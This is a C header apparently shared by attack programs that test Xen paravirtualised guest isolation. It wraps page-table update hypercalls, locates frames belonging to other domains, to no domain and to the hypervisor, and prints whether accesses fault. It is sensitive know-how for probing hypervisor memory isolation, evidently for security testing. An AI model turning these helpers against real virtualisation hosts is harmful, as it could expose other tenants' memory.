/* What the attacks share: short names for the calls they make, the frames of others, and a line for each result. Each
 * attack defines NAME, which begins every line, before it includes this. Functions are inline, for none uses all. */
#ifndef XENOLITH_ATTACK_H
#define XENOLITH_ATTACK_H

#include <lib.h>

#include <xen/errno.h>
#include <xen/event_channel.h>
#include <xen/memory.h>

#define RO _PAGE_PRESENT
#define RW (_PAGE_PRESENT | _PAGE_RW)
#define NOT_CANONICAL 0x0000800000000000ul

static inline void show(const char *what, long result) { printf(NAME ": %s: %ld\n", what, result); }

/* Whether an access faults, and with which error code. */
static inline void show_touch(const char *what, volatile void *address, int write) {
  if (try_touch((void *)address, write)) printf(NAME ": %s: faults, error 0x%lx\n", what, fault_error);
  else printf(NAME ": %s: no fault\n", what);
}

static inline uint64_t frame(uint64_t mfn, uint64_t flags) { return mfn * PAGE_SIZE | flags; }

static inline uint64_t table_of(const volatile void *address, int level) {
  return entry_address(address, level) / PAGE_SIZE;
}

static inline long update(uint64_t ptr, uint64_t val) {
  struct mmu_update request = {.ptr = ptr, .val = val};
  return HYPERVISOR_mmu_update(&request, 1, 0, DOMID_SELF);
}

static inline long ext2(uint32_t cmd, uint64_t arg1, uint64_t arg2) {
  struct mmuext_op op = {.cmd = cmd, .arg1_mfn = arg1, .arg2_src_mfn = arg2};
  return HYPERVISOR_mmuext_op(&op, 1, 0, DOMID_SELF);
}

static inline long ext(uint32_t cmd, uint64_t arg1) { return ext2(cmd, arg1, 0); }

/* The first frame of another domain, going by the machine-to-physical table; the first that no domain has; and one of the
 * hypervisor's, of that table itself. */
static uint64_t foreign, unowned, hypervisors;

static inline void find_frames(void) {
  const uint64_t *m2p = (const uint64_t *)MACH2PHYS_VIRT_START;
  const uint64_t *p2m = (const uint64_t *)start_info->mfn_list;
  for (uint64_t mfn = 256; !foreign || !unowned; mfn++) {
    int none = m2p[mfn] >= 1 << 20;
    int own = !none && m2p[mfn] < start_info->nr_pages && p2m[m2p[mfn]] == mfn;
    if (none && !unowned) unowned = mfn;
    if (!none && !own && !foreign) foreign = mfn;
  }
  struct xen_machphys_mfn_list list = {.max_extents = 1, .extent_start = (uint64_t)&hypervisors};
  HYPERVISOR_memory_op(XENMEM_machphys_mfn_list, &list);
}

/* The domain's own id: Xen puts it where a port is offered to DOMID_SELF. */
static inline uint16_t own_domid(void) {
  struct evtchn_alloc_unbound alloc = {.dom = DOMID_SELF, .remote_dom = DOMID_SELF};
  HYPERVISOR_event_channel_op(EVTCHNOP_alloc_unbound, &alloc);
  struct evtchn_status status = {.dom = DOMID_SELF, .port = alloc.port};
  HYPERVISOR_event_channel_op(EVTCHNOP_status, &status);
  struct evtchn_close close = {.port = alloc.port};
  HYPERVISOR_event_channel_op(EVTCHNOP_close, &close);
  return status.unbound_dom;
}

#endif
